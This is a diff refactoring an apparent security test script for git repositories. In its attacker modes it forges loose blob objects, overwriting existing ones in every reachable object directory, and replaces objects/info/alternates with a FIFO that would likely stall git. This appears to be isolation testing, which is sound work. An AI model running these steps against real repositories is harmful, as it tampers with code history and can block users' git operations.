@@ -49,23 +49,33 @@ def object_dirs() -> list[Path]:
     return dirs
 
 
-def forge(oid: str, content: bytes) -> list[str]:
-    """Write a loose object named `oid` holding `content` in every object directory in reach."""
+def in_every_object_dir(where, write, *, errors: str, nothing: str) -> list[str]:
+    """`write(path)` for the `where(objects)` path of every object directory in reach; the paths
+    written. Each failure is listed in report[`errors`]; none written raises `nothing`."""
     done = []
-    raw = zlib.compress(b"blob %d\0" % len(content) + content)
     for objects in object_dirs():
-        path = objects / oid[:2] / oid[2:]
+        path = where(objects)
         try:
-            path.parent.mkdir(exist_ok=True)
-            if path.exists():
-                path.unlink()
-            path.write_bytes(raw)
+            write(path)
             done.append(str(path))
         except OSError as exc:
-            report.setdefault("forge_errors", []).append(f"{path}: {exc}")  # type: ignore[union-attr]
+            report.setdefault(errors, []).append(f"{path}: {exc}")  # type: ignore[union-attr]
     if not done:
-        raise RuntimeError("no object directory was writable")
+        raise RuntimeError(nothing)
     return done
+
+
+def forge(oid: str, content: bytes) -> list[str]:
+    """Write a loose object named `oid` holding `content` in every object directory in reach."""
+    raw = zlib.compress(b"blob %d\0" % len(content) + content)
+
+    def write(path: Path) -> None:
+        path.parent.mkdir(exist_ok=True)
+        if path.exists():
+            path.unlink()
+        path.write_bytes(raw)
+
+    return in_every_object_dir(lambda objects: objects / oid[:2] / oid[2:], write, errors="forge_errors", nothing="no object directory was writable")
 
 
 branch = git("symbolic-ref", "--short", "HEAD")
@@ -123,22 +133,15 @@ elif mode == "head":
 elif mode == "fifo":
     if attacker:
 
-        def plant() -> list[str]:
-            done = []
-            for objects in object_dirs():
-                target = objects / "info" / "alternates"
-                try:
-                    if target.exists() or target.is_symlink():
-                        target.unlink()
-                    os.mkfifo(target)
-                    done.append(str(target))
-                except OSError as exc:
-                    report.setdefault("fifo_errors", []).append(f"{target}: {exc}")  # type: ignore[union-attr]
-            if not done:
-                raise RuntimeError("no alternates file was writable")
-            return done
+        def plant(target: Path) -> None:
+            if target.exists() or target.is_symlink():
+                target.unlink()
+            os.mkfifo(target)
 
-        attempt("fifo_alternates", plant)
+        attempt(
+            "fifo_alternates",
+            lambda: in_every_object_dir(lambda objects: objects / "info" / "alternates", plant, errors="fifo_errors", nothing="no alternates file was writable"),
+        )
 elif mode == "read":
     for name, oid in spec["objects"].items():
         attempt(name, lambda oid=oid: git("cat-file", "-p", oid))
